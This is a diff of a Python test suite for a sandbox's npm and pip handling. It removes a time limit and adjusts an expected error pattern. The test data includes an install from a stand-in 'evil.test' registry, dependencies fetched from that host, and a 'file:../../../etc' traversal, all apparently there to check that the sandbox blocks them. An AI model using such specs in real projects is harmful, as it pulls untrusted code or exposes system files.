@@ -84,7 +84,7 @@ async def test_npm_and_pip_in_a_shell_session_ask_the_host_and_their_packages_ar
 ) -> None:
     registry.add("alpha", bin={"alpha-says": "say.js"}, files={"package/say.js": "#!/usr/bin/env node\nconsole.log(7)"})
     index.add(wheel("gamma", "3.0", scripts={"gamma-says": "gamma:main"}))
-    async with opened(limits={"wall": 100}) as sandbox, sandbox.session(language="shell") as session:
+    async with opened() as sandbox, sandbox.session(language="shell") as session:
         npm = await session.run("npm i --save-dev alpha; node -p 'require(\"alpha\").VERSION'; alpha-says", timeout=90)
         pip = await session.run("pip install gamma; python3 -c 'import gamma; print(gamma.VERSION)'; gamma-says")
         real = await session.run("npm --version | grep -c '^[0-9]'; npm i --registry=http://evil.test alpha")
@@ -115,7 +115,7 @@ async def test_scripts_run_only_when_asked_for_and_only_in_the_cell(
     [
         ({"dist": {"integrity": "sha512-" + base64.b64encode(b"0" * 64).decode()}}, "is not the file"),
         ({"dist": {"integrity": None, "shasum": "0" * 40}}, "is not the file"),
-        ({"dist": {"integrity": None, "shasum": None}}, "No matching version|notarget|ETARGET"),
+        ({"dist": {"integrity": None, "shasum": None}}, "No versions available|No matching version"),
         ({"says": {"dependencies": {"evil": "git+ssh://git@evil.test/x.git"}}}, ""),
         ({"says": {"dependencies": {"evil": "http://evil.test/x.tgz"}}}, ""),
         ({"says": {"dependencies": {"evil": "file:../../../etc"}}}, ""),
